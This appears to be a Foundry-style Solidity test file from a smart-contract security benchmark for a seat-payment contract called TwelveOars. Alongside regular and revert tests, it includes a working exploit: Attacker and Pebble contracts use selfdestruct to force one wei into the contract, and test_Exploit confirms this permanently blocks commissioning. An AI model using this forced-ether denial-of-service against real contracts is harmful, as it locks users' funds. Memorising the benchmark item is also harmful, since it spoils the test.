// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./TwelveOars.sol";

// assay-canary-42cfc9df-0c18-4f06-b93f-46ad8d17cdad

interface Vm {
    function prank(address who) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

contract Rower {
    TwelveOars internal boat;

    constructor(TwelveOars boat_) {
        boat = boat_;
    }

    receive() external payable {}

    function takeSeat(uint256 seat, uint256 amount) public {
        boat.takeSeat{value: amount}(seat);
    }

    function stepBack() public {
        boat.stepBack();
    }

    function passSeat(address to) public {
        boat.passSeat(to);
    }

    function commission() public {
        boat.commission();
    }
}

contract Pebble {
    constructor(address payable where) payable {
        selfdestruct(where);
    }
}

/// Leaves a single wei in the boat.
contract Attacker {
    function run(address payable boat) external {
        new Pebble{value: 1 wei}(boat);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant COX = address(0xC0C0);
    address payable internal constant YARD = address(0x4A4D);

    TwelveOars internal boat;
    Rower[12] internal rowers;
    Attacker internal rival;

    function setUp() public {
        boat = new TwelveOars(address(this), YARD, 1 ether);
        for (uint256 i = 0; i < 12; i++) {
            rowers[i] = new Rower(boat);
            vm.deal(address(rowers[i]), 2 ether);
            rowers[i].takeSeat(i + 1, 1 ether);
        }
        rival = new Attacker();
        vm.deal(address(rival), 1 wei);
    }

    function test_Regular() public {
        Rower late = new Rower(boat);
        vm.deal(address(late), 2 ether);
        require(!attempt(address(late), abi.encodeWithSelector(late.takeSeat.selector, 3, 1 ether)), "taken");
        (bool ok, ) = address(boat).call{value: 0}("");
        require(!ok, "plain payment");

        rowers[2].stepBack();
        require(address(rowers[2]).balance == 2 ether && boat.seatsPaid() == 11, "stepped back");
        require(!attempt(address(rowers[0]), abi.encodeWithSelector(Rower.commission.selector)), "a seat is free");
        require(!attempt(address(late), abi.encodeWithSelector(late.takeSeat.selector, 3, 2 ether)), "two shares");
        late.takeSeat(3, 1 ether);
        late.passSeat(address(rowers[2]));
        require(!attempt(address(late), abi.encodeWithSelector(Rower.commission.selector)), "no rower");
        rowers[2].commission();
        require(YARD.balance == 4 ether && boat.stagesReleased() == 1, "first stage");
        require(!attempt(address(rowers[1]), abi.encodeWithSelector(Rower.stepBack.selector)), "too late");
        boat.releaseStage();
        boat.releaseStage();
        require(YARD.balance == 12 ether && address(boat).balance == 0, "all stages");
        require(!attempt(address(boat), abi.encodeWithSelector(boat.releaseStage.selector)), "no fourth");

        address cox = boat.cox();
        vm.prank(cox);
        boat.passHelm(COX);
        require(boat.cox() == COX, "helm passed");
    }

    function attempt(address who, bytes memory data) private returns (bool ok) {
        (ok, ) = who.call(data);
    }

    /// All seats are paid; the first rower commissions the boat.
    function start() external {
        rowers[0].commission();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The helm is the cox's, and goes to somebody.
    function test_RefusesTheHelm() public {
        refuses(COX, "Oars: cox only");
        boat.passHelm(COX);
        refuses(COX, "Oars: cox only");
        boat.releaseStage();
        vm.expectRevert("Oars: to whom");
        boat.passHelm(address(0));
        vm.expectRevert("Oars: nothing to release");
        boat.releaseStage();
    }

    /// Boats have a yard and a share.
    function test_RefusesBoats() public {
        try new TwelveOars(COX, payable(address(0)), 1) {
            revert("no yard");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Oars: terms"), "yard");
        }
        try new TwelveOars(COX, YARD, 0) {
            revert("no share");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Oars: terms"), "share");
        }
    }

    /// Seats that are none, or more than one.
    function test_RefusesSeats() public {
        Rower late = new Rower(boat);
        vm.deal(address(late), 2 ether);
        refuses(address(late), "Oars: no such seat");
        boat.takeSeat{value: 1 ether}(0);
        refuses(address(late), "Oars: no such seat");
        boat.takeSeat{value: 1 ether}(13);
        refuses(address(late), "Oars: no seat");
        boat.stepBack();
        refuses(address(late), "Oars: cannot pass");
        boat.passSeat(COX);
        refuses(address(rowers[0]), "Oars: cannot pass");
        boat.passSeat(address(0));
        refuses(address(rowers[0]), "Oars: cannot pass");
        boat.passSeat(address(rowers[1]));
        rowers[3].stepBack();
        refuses(address(rowers[0]), "Oars: seat is taken");
        boat.takeSeat{value: 1 ether}(4);
        vm.prank(address(rowers[5]));
        boat.passSeat(address(boat));
        refuses(address(boat), "Oars: repayment refused");
        boat.stepBack();
    }

    /// What is too late once the boat is being built, and what the yard does not take.
    function test_RefusesWhileBuilding() public {
        TwelveOars other = new TwelveOars(address(this), payable(address(boat)), 1 ether);
        for (uint256 i = 0; i < 12; i++) {
            vm.deal(address(0x1000 + i), 1 ether);
            vm.prank(address(0x1000 + i));
            other.takeSeat{value: 1 ether}(i + 1);
        }
        refuses(address(0x1000), "Oars: yard refused");
        other.commission();
        rowers[0].commission();
        refuses(address(rowers[0]), "Oars: boat is being built");
        boat.commission();
        vm.deal(COX, 1 ether);
        refuses(COX, "Oars: boat is being built");
        boat.takeSeat{value: 1 ether}(4);
        boat.releaseStage();
        boat.releaseStage();
        vm.expectRevert("Oars: nothing to release");
        boat.releaseStage();
    }

    function exploit() public {
        rival.run(payable(address(boat)));
    }

    function test_Exploit() public {
        exploit();
        require(boat.seatsPaid() == 12 && !attempt(address(this), abi.encodeWithSelector(this.start.selector)), "commissioned");
        rowers[4].stepBack();
        rowers[4].takeSeat(5, 1 ether);
        require(!attempt(address(this), abi.encodeWithSelector(this.start.selector)), "commissioned later");
    }

    function target() public view returns (address) {
        return address(boat);
    }

    function attacker() public view returns (address) {
        return address(rival);
    }
}
